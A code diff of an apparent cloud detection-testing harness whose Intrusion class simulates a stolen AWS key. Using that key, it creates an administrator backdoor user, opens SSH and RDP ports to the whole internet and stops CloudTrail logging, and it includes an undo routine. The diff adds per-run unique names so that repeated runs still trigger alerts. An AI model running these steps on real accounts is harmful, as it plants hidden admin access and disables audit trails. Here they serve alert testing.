@@ -4,7 +4,8 @@ from __future__ import annotations
 
 import contextlib
 import time
-from dataclasses import dataclass
+import uuid
+from dataclasses import dataclass, field
 from datetime import UTC, datetime
 from typing import Any, ClassVar
 
@@ -54,9 +55,10 @@ def send_traffic(target: Target) -> Traffic:
 
 @dataclass(kw_only=True)
 class Intrusion:
-    """A contractor's key is stolen; the thief makes an administrator, opens a port and stops the trail.
+    """A contractor's key is stolen; the thief makes an administrator, opens two ports and stops the trail.
 
-    Only for an account that nobody needs: `undo` takes back what `commit` did.
+    Only for an account that nobody needs: `undo` takes back what `commit` did. Each has a contractor of its own, since
+    what one and the same actor does again within the hour is no page again.
     """
 
     identity_changes: ClassVar[int] = 5
@@ -65,14 +67,16 @@ class Intrusion:
     target: Target
     started_at: float = 0.0
     _group_id: str = ""
+    _tag: str = field(default_factory=lambda: uuid.uuid4().hex[:6])
 
     def commit(self) -> None:
         """Do it."""
         self.undo()
         self.started_at = time.time()
         iam = self.target.client("iam")
-        iam.create_user(UserName=VICTIM)
-        key = iam.create_access_key(UserName=VICTIM)["AccessKey"]
+        victim, backdoor = f"{VICTIM}-{self._tag}", f"{BACKDOOR}-{self._tag}"
+        iam.create_user(UserName=victim)
+        key = iam.create_access_key(UserName=victim)["AccessKey"]
 
         def as_intruder(service: str) -> Any:
             return self.target.session.client(
@@ -83,26 +87,26 @@ class Intrusion:
             )
 
         as_intruder("sts").get_caller_identity()
-        as_intruder("iam").create_user(UserName=BACKDOOR)
-        as_intruder("iam").create_access_key(UserName=BACKDOOR)
-        as_intruder("iam").attach_user_policy(UserName=BACKDOOR, PolicyArn=ADMINISTRATOR_ACCESS)
+        as_intruder("iam").create_user(UserName=backdoor)
+        as_intruder("iam").create_access_key(UserName=backdoor)
+        as_intruder("iam").attach_user_policy(UserName=backdoor, PolicyArn=ADMINISTRATOR_ACCESS)
         ec2 = as_intruder("ec2")
         self._group_id = ec2.create_security_group(GroupName=GROUP, Description="demo")["GroupId"]
-        ec2.authorize_security_group_ingress(
-            GroupId=self._group_id,
-            IpPermissions=[{"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}],
-        )
+        for port in (22, 3389):
+            to_all = {"IpProtocol": "tcp", "FromPort": port, "ToPort": port, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}
+            ec2.authorize_security_group_ingress(GroupId=self._group_id, IpPermissions=[to_all])
         # Last: what comes after it is not recorded.
         as_intruder("cloudtrail").stop_logging(Name=self.target.output("TrailName"))
 
     def undo(self) -> None:
-        """Take back what `commit` did, as far as it got."""
+        """Take back what `commit` did, as far as it got, and what one that was broken off has left."""
         iam, ec2 = self.target.client("iam"), self.target.client("ec2")
         with contextlib.suppress(ClientError):
             self.target.client("cloudtrail").start_logging(Name=self.target.output("TrailName"))
         with contextlib.suppress(ClientError):
             ec2.delete_security_group(GroupId=self._group_id) if self._group_id else None
-        for user in (VICTIM, BACKDOOR):
+        users = (user["UserName"] for page in iam.get_paginator("list_users").paginate() for user in page["Users"])
+        for user in [each for each in users if each.startswith((VICTIM, BACKDOOR))]:
             with contextlib.suppress(ClientError):
                 iam.detach_user_policy(UserName=user, PolicyArn=ADMINISTRATOR_ACCESS)
             with contextlib.suppress(ClientError):
